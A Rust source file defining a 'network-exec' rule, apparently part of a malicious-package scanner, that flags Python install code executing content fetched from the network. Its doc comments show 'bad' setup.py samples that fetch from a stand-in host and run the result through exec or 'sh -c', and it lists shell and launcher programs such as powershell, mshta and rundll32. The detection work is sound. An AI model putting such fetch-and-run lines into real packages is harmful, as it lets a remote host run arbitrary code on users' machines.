//! ## What it detects
//!
//! Code or a command that came over the network and is executed without ever being a file.
//!
//! ## Why it is bad
//!
//! Whoever answers decides what runs on this machine, and may answer differently each time.
//!
//! ## Innocent lookalikes
//!
//! None known in published packages.
//!
//! ## Bad
//!
//! ```python setup.py
//! import urllib.request
//! exec(urllib.request.urlopen('http://x.example.invalid/a').read())
//! ```
//!
//! ## Bad
//!
//! ```python setup.py
//! import subprocess, urllib.request
//! a = urllib.request.urlopen('http://x.example.invalid/').read()
//! subprocess.run(['sh', '-c', a])
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import subprocess, urllib.request
//! a = urllib.request.urlopen('http://x.example.invalid/').read()
//! subprocess.run(['git', 'clone', a])
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import urllib.request
//! print(urllib.request.urlopen('http://x.example.invalid/a').read())
//! ```

use fondaco_python::{Api, Call, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("network-exec"),
    title: "executes code from the network",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 2.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let runs = match call.api {
            // Compiling runs nothing yet; who runs the result is seen where that happens.
            Some(Api::CodeExec) => call.callee != "builtins.compile",
            Some(Api::Shell) => !is_program_known(call),
            _ => false,
        };
        if runs && call.args.first().is_some_and(|code| code.taint.has(Taint::NETWORK)) {
            hits.call(unit, call, format!("{} of what the network answered", call.callee));
        }
    }
}

/// Whether the answer is a mere argument: which program runs is known, and it runs no code that it
/// is given, as in `["git", "clone", answer]`.
fn is_program_known(call: &Call) -> bool {
    let Some(command) = call.args.first() else { return true };
    if command.constant.is_some() && call.callee.starts_with("subprocess.") && command.as_list().is_none() {
        // A name such as `r.status_code` of an answer is no code.
        return true;
    }
    let is_program = |word: &&str| {
        word.starts_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '/' | '.')) && !word.contains("://")
    };
    let program = match command.as_list() {
        Some([first, ..]) if first.taint.has(Taint::NETWORK) => None,
        Some([first, ..]) => first.as_str().or(first.name.as_deref()),
        _ => command.fragments().first().map(|text| &**text).filter(|text| text.contains(' ') || command.as_str().is_none()),
    };
    let Some(program) = program.filter(is_program) else { return false };
    let word = program.split_whitespace().next().unwrap_or_default();
    let name = word.rsplit(['/', '\\']).next().unwrap_or_default().trim_end_matches(".exe");
    let texts = call.texts();
    let is_module = texts.contains(&"-m") && !texts.contains(&"-c");
    !LAUNCHERS.iter().any(|launcher| name.starts_with(launcher)) || is_module
}

/// Programs that run what they are told to; `python3`, `pythonw` and `sys.executable` among them.
const LAUNCHERS: [&str; 24] = [
    "python", "sys.executable", "sh", "bash", "zsh", "dash", "cmd", "powershell", "pwsh", "start", "chmod", "nohup", "sudo",
    "wscript", "cscript", "mshta", "rundll32", "regsvr32", "explorer", "node", "perl", "ruby", "php", "eval",
];
